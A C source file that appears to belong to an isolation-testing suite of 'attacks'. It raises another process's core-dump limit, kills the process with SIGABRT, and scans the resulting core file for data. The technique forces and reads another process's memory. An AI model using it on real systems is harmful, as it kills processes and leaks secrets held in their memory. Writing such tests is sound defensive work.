// Allows another process a core, has it write one, and reads that. Arguments: the folder it
// is written to, which is where the process runs. core(5)
#define _GNU_SOURCE
#include "attack.h"

#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <unistd.h>

static int IsWhole(const char* path) {
  struct stat before, after;
  if (stat(path, &before) != 0) return 0;
  usleep(200 * 1000);
  return stat(path, &after) == 0 && before.st_blocks == after.st_blocks && after.st_size > 0;
}

static void HuntAll(const char* path) {
  static char bytes[1 << 20];
  const int file = open(path, O_RDONLY | O_CLOEXEC);
  if (file < 0) {
    Refused(path);
    return;
  }
  ssize_t got;
  for (off_t at = 0; (got = pread(file, bytes, sizeof bytes, at)) > 0; at += (off_t)sizeof bytes - 4096) Hunt(bytes, (size_t)got);
  close(file);
}

// Whether a file called core, or core and a number, was found and read.
static int HuntCore(const char* folder) {
  DIR* files = opendir(folder);
  if (files == NULL) {
    Refused(folder);
    return 1;
  }
  const struct dirent* entry;
  int found = 0;
  while (!found && (entry = readdir(files)) != NULL) {
    if (strncmp(entry->d_name, "core", 4) != 0) continue;
    char path[512];
    snprintf(path, sizeof path, "%.200s/%.255s", folder, entry->d_name);
    while (!IsWhole(path)) continue;
    HuntAll(path);
    found = 1;
  }
  closedir(files);
  return found;
}

static void CoreDump(pid_t target, char** arguments) {
  if (arguments[0] == NULL) return;
  struct rlimit limit;
  if (prlimit(target, RLIMIT_CORE, NULL, &limit) != 0) Refused("prlimit(RLIMIT_CORE)");
  limit.rlim_cur = limit.rlim_max;
  if (prlimit(target, RLIMIT_CORE, &limit, NULL) != 0) Refused("prlimit(RLIMIT_CORE)");
  if (kill(target, SIGABRT) != 0) {
    Refused("kill(SIGABRT)");
    return;
  }
  for (int looks = 0; looks < 20 && !HuntCore(arguments[0]); looks++) usleep(100 * 1000);
}

ATTACK("core-dump", CoreDump)
